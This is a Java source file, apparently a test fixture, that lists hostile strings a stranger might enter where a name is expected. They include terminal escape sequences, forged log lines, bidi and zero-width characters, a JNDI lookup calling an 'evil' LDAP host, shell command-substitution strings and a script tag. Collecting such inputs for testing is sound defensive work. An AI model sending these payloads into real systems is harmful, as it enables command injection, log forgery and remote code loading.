package org.certdrop.text;

import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.Map;

/** What a stranger may write where a name is expected. */
public final class HostileStrings {
  private HostileStrings() {}

  /** By name, since reports of tests are read on terminals, too. */
  public static Map<String, String> all() {
    Map<String, String> strings = new LinkedHashMap<>();
    strings.put("colour", "\u001b[31mred\u001b[0m");
    strings.put("clear screen", "\u001b[2J\u001b[H");
    strings.put("8-bit CSI", "\u009b31mred");
    strings.put("OSC 8 link", "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u001b\\");
    strings.put("title", "\u009d0;owned\u009c");
    strings.put("line feed", "x\n2026-11-23T00:00:00.000Z INFO  registered forged");
    strings.put("return", "refused\rregistered");
    strings.put("next line", "x\u0085forged");
    strings.put("NUL", "x\u0000y");
    strings.put("bell and backspace", "x\u0007\b\by\u007f");
    strings.put("bidi override", "\u202egnp.\u202c");
    strings.put("bidi isolate", "\u2066x\u2069\u200f");
    strings.put("zero width", "no\u200bde\u200d\ufeff\u2060");
    strings.put("line separators", "x\u2028y\u2029z");
    strings.put("half a pair", "x\ud800y");
    strings.put("tags", "x\udb40\udc41y");
    strings.put("lookups", "${jndi:ldap://evil/a}${env:HOME}{{x}}{}{0}%n%s%d%X{a}#{x}");
    strings.put("shell", "$(id)`id`;id|id&id'\"\\ <script>alert(1)</script>");
    return Collections.unmodifiableMap(strings);
  }

  /** Whether a character controls what shows it: a line feed apart, none is ever shown. */
  public static boolean isHarmful(int point) {
    return switch (Character.getType(point)) {
      case Character.CONTROL -> point != '\n';
      case Character.FORMAT,
          Character.SURROGATE,
          Character.LINE_SEPARATOR,
          Character.PARAGRAPH_SEPARATOR ->
          true;
      default -> false;
    };
  }
}
